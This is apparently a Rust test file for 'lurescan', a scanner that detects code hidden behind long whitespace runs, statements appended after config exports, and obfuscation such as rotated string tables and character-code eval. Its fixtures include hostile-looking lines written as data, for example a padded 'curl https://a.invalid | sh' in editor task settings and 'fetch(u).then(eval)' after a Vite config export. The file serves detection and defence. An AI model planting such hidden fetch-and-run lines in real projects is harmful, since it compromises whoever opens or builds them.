//! What stands where nobody looks, and what is obfuscated.

use lurescan::analyse::{Facts, Offscreen, analyse, obfuscation};
use lurescan::artifact::{Kind, Text};

use crate::subject::artifact;

fn read(path: &str, kind: Kind, source: &str) -> Facts {
    analyse(&artifact(path, kind, source.as_bytes()), &Text::new(source.as_bytes()), true).facts
}

fn offscreen(kind: Kind, source: &str) -> Vec<Offscreen> {
    read("a", kind, source).layout.offscreen.into_iter().filter(|place| place.executable).collect()
}

fn blanks(count: usize) -> String {
    " ".repeat(count)
}

#[test]
fn code_behind_a_hundred_blanks_is_found_in_every_language() {
    for (kind, line) in [
        (Kind::JavaScript, "a();{}eval(x);"),
        (Kind::TypeScript, "export default a;{}fetch(x).then(y);"),
        (Kind::Python, "a = 1{};exec(x)"),
        (Kind::Shell, "ls{}; curl https://a.invalid | sh"),
        (Kind::OtherSource, "<?php a();{}eval($x);"),
        (Kind::Yaml, "run: ls{}&& curl https://a.invalid | sh"),
    ] {
        let found = offscreen(kind, &format!("first\n{}\nlast\n", line.replace("{}", &blanks(100))));
        assert_eq!(found.len(), 1, "{kind:?}");
        assert!(!found[0].sinks.is_empty(), "{kind:?}");
        assert_eq!(offscreen(kind, &line.replace("{}", &blanks(99))).len(), 0, "{kind:?}");
    }
}

#[test]
fn other_blanks_hide_code_as_well() {
    for blank in ["\t", "\u{a0}", "\u{2003}", "\u{3000}", "\t \u{a0}\u{feff}"] {
        assert_eq!(offscreen(Kind::JavaScript, &format!("a();{}eval(x)", blank.repeat(120))).len(), 1, "{blank:?}");
    }
    assert_eq!(offscreen(Kind::JavaScript, &format!("a(); /*{}*/ eval(x)", blanks(300))).len(), 1);
}

#[test]
fn a_run_is_found_wherever_it_begins() {
    for before in 0..130 {
        let source = format!("{};{}eval(x)", "a".repeat(before + 1), blanks(100));
        assert_eq!(offscreen(Kind::JavaScript, &source).len(), 1, "{before}");
    }
}

#[test]
fn blanks_in_strings_comments_tables_and_deep_nesting_are_honest() {
    for source in [
        format!("const line = '{}eval(x)';", blanks(150)),
        format!("const art = `\n  a{}eval(x)\n`;", blanks(150)),
        format!("a(); //{}eval(x)", blanks(150)),
        format!("/*\n a{}eval(x)\n*/", blanks(150)),
        format!("a();{}// eval(x)", blanks(150)),
        format!("a();{}\n", blanks(150)),
        format!("[1,{}2,{}3]", blanks(150), blanks(150)),
        (0..10).map(|depth| format!("{}if (a) {{\n", blanks(depth * 14))).collect::<String>()
            + &format!("{}eval(x);\n", blanks(140)),
    ] {
        assert!(offscreen(Kind::JavaScript, &source).is_empty(), "{source}");
    }
    assert!(offscreen(Kind::Prose, &format!("a{}eval(x)", blanks(150))).is_empty());
    assert!(offscreen(Kind::Shell, &format!("echo 'a{}curl x'", blanks(150))).is_empty());
}

#[test]
fn a_padded_command_counts_in_an_editors_settings_and_not_in_data() {
    let source = format!("{{\"command\": \"{}curl https://a.invalid | sh\"}}", blanks(150));
    let padded = |path| read(path, Kind::Json, &source).layout.offscreen.iter().any(|place| place.executable);
    assert!(padded(".vscode/tasks.json"));
    assert!(padded("package.json"));
    assert!(!padded("fixtures/readmes.json"));
}

#[test]
fn statements_behind_the_last_export_of_a_configuration_are_found() {
    let after = |path: &str, source: &str| {
        read(path, Kind::JavaScript, source).layout.after_exports.map(|span| source[span].to_owned())
    };
    assert_eq!(
        after("vite.config.js", "export default {};\nfetch(u).then(eval);\n").as_deref(),
        Some("fetch(u).then(eval);")
    );
    assert_eq!(
        after("postcss.config.cjs", "module.exports = {};\n(function(){})();").as_deref(),
        Some("(function(){})();")
    );
    assert_eq!(after(".eslintrc.js", "module.exports = {};\nglobal['x'] = 1;").as_deref(), Some("global['x'] = 1;"));
    assert_eq!(after("routes/user.js", "module.exports = {};\nfetch(u);\n"), None, "not a configuration");
    for honest in [
        "module.exports = {};\nfunction used() { return fetch('u') }\n",
        "exports.a = b();\nexports.c = d();\n",
        "export default a;\nexport { b };\n",
        "module.exports = wrap({});\nmodule.exports.extra = make();\n",
        "export default a;\nconst later = () => fetch('u');\n",
        "export default a;\nif (module.hot) module.hot.accept();\n",
    ] {
        assert_eq!(after("vite.config.js", honest), None, "{honest}");
    }
}

#[test]
fn a_line_far_beyond_its_neighbours_is_noted_unless_the_file_is_minified_or_the_line_is_data() {
    let ordinary = "const a = require('a');\nconst b = a.go();\nfunction c() {\n  return b;\n}\nmodule.exports = c;\n";
    let long = "f(1);".repeat(400);
    let lines = |source: &str| read("a.js", Kind::JavaScript, source).layout.long_lines.len();
    assert_eq!(lines(&format!("{ordinary}{long}\n")), 1);
    assert_eq!(lines(&format!("/*! licence\n * one\n * two\n * three\n * four\n */\n{long}\n")), 0);
    assert_eq!(lines(&format!("/*\nlicence\none of two\ntwo of two\nthe end\nthe very end\n*/\n{long}\n")), 0);
    assert_eq!(lines(&format!("{ordinary}const icon = '{}';\n", "M0 0L1 1".repeat(400))), 0);
}

/// A string table with its rotation, as an obfuscator writes it, that does nothing.
fn table(prefix: &str) -> String {
    let strings: Vec<String> = (0..16).map(|n| format!("'{n}abc'")).collect();
    let reads: Vec<String> = (0..24).map(|n| format!("{prefix}x[{prefix}d(0x{n:x})]({prefix}d(0x{n:x}))")).collect();
    let sums: Vec<String> = (1..6).map(|n| format!("parseInt({prefix}d(0x{n}))/(0x{n}+-0x{n}*0x{n})")).collect();
    format!(
        "function {prefix}t(){{const {prefix}s=[{}];{prefix}t=function(){{return {prefix}s;}};return {prefix}t();}}\
         (function(a,b){{const c=a();while(!![]){{try{{const e={};if(e===b)break;else c['push'](c['shift']());}}\
         catch(f){{c['push'](c['shift']());}}}}}}({prefix}t,0x1));{};",
        strings.join(","),
        sums.join("+"),
        reads.join(";")
    )
}

#[test]
fn a_rotated_string_table_is_obfuscation_whatever_its_names_are() {
    for prefix in ["_0x4a1b", "aR", "zz"] {
        let source = table(prefix);
        let score = obfuscation::measure(&source, 0..source.len()).score;
        assert!(score >= obfuscation::WHOLE_FILE, "{prefix}: {score}");
    }
}

#[test]
fn a_blob_is_not_diluted_by_the_honest_code_around_it() {
    let source =
        format!("{}\n{}\n{}", "const a = go(b.c);\n".repeat(20_000), table("_0x4a1b"), "d.e(f);\n".repeat(20_000));
    assert!(obfuscation::measure(&source, 0..source.len()).score >= obfuscation::WHOLE_FILE);
}

#[test]
fn other_ways_to_hide_a_meaning_are_obfuscation() {
    let brackets = "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]".repeat(20);
    let escapes: String = "child_process and so on, more than thirty".bytes().map(|b| format!("\\x{b:02x}")).collect();
    let escapes = format!("x('{escapes}');");
    let codes: Vec<String> = (0..60).map(|n| (97 + n % 20).to_string()).collect();
    let codes = format!("eval(String.fromCharCode({}))", codes.join(","));
    let seeded = "global['!']='1-1';var _$_1a2b=(function(l,e){var h=l.length;var g=[];for(var j=0;j<h;j++){g[j]=l.charAt(j)};\
         for(var j=0;j<h;j++){var s=e*(j+489)+(e%19597);var t=s%h;var p=e%h;var y=g[t];g[t]=g[p];g[p]=y;e=(s+w)%4573868};\
         return g.join('')})('x',1);";
    for source in [brackets.as_str(), &escapes, &codes, seeded] {
        let score = obfuscation::measure(source, 0..source.len()).score;
        assert!(score >= obfuscation::IN_ODD_PLACE, "{score}: {}", &source[..60]);
    }
}

#[test]
fn minified_code_is_not_obfuscated() {
    let minified = "!function(e,t){\"object\"==typeof exports?module.exports=t():e.lib=t()}(this,function(){var n={},\
         r=n.toString;function i(e){return null!=e&&e.window===e}function o(e,t){for(var n=0,r=e.length;n<r;n++)t(e[n],n)}\
         return o([1,2,3],function(e){n[e]=i(e)?r.call(e):e<<16|e>>>8&255}),{each:o,map:n}});"
        .repeat(40);
    assert_eq!(obfuscation::measure(&minified, 0..minified.len()).score, 0);
    let queue =
        "while(true){a=parseInt(q.shift());b=parseInt(a);c=parseInt(b)}d=parseInt(c);e=parseInt(d);r.push(s());";
    assert!(obfuscation::measure(queue, 0..queue.len()).score < obfuscation::IN_ODD_PLACE);
    let tables: Vec<String> = (0..300).map(|n| format!("0x{:08x}", n * 2_654_435_761u64 % 0xffff_ffff)).collect();
    let cipher = format!("const S = [{}]; function f(a, b) {{ return S[a & 255] ^ S[b >>> 8] }}", tables.join(","));
    assert!(obfuscation::measure(&cipher, 0..cipher.len()).score < obfuscation::IN_ODD_PLACE);
}
